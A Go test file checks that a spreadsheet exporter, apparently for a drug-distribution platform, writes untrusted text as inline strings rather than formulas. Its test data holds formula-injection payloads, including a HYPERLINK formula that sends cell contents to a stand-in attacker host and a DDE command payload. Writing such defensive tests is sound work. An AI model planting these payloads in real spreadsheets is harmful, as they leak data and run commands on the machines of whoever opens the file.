package export

import (
	"encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/medgate/medgate/test/testenv"
)

// TestExternalTextNeverBecomesAFormula: text from the platform or the
// distributors (drug names, companies, error messages) that starts with
// = + - @ or holds a DDE payload is written as an inline string, never as
// a formula: excelize finds no formula in the cell, and LibreOffice Calc
// shows the text as it is, not a computed value. A guard: the writer must
// keep text cells out of <f>.
func TestExternalTextNeverBecomesAFormula(t *testing.T) {
	t.Parallel()
	texts := []string{
		"=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"点击\")",
		"=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
	}
	dir := t.TempDir()
	w, err := New(Options{TmpDir: dir})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	s, err := w.Sheet(SheetSpec{Name: "f", Columns: []Column{{Header: "药品名称"}}})
	if err != nil {
		t.Fatal(err)
	}
	for _, x := range texts {
		if err := s.Row(x); err != nil {
			t.Fatal(err)
		}
	}
	path := filepath.Join(dir, "f.xlsx")
	if _, err := w.Save(path); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, x := range texts {
		cell, _ := excelize.CoordinatesToCellName(1, i+2)
		if formula, err := f.GetCellFormula("f", cell); err != nil || formula != "" {
			t.Errorf("%s (%q) holds formula %q (%v)", cell, x, formula, err)
		}
		if typ, _ := f.GetCellType("f", cell); typ != excelize.CellTypeInlineString {
			t.Errorf("%s (%q) has type %v, want an inline string", cell, x, typ)
		}
	}

	soffice := testenv.Tool(t, "soffice", "libreoffice-calc-nogui")
	out, err := exec.Command(soffice, "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--headless",
		"--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", "--outdir", dir, path).CombinedOutput()
	if err != nil {
		t.Fatalf("LibreOffice: %v\n%s", err, out)
	}
	cf, err := os.Open(filepath.Join(dir, "f-f.csv"))
	if err != nil {
		t.Fatalf("LibreOffice wrote no CSV: %v\n%s", err, out)
	}
	defer cf.Close()
	rows, err := csv.NewReader(cf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(texts)+1 {
		t.Fatalf("LibreOffice shows %d rows, want %d", len(rows), len(texts)+1)
	}
	for i, x := range texts {
		if got := rows[i+1][0]; got != x {
			t.Errorf("LibreOffice shows %q as %q", x, got)
		}
	}
}
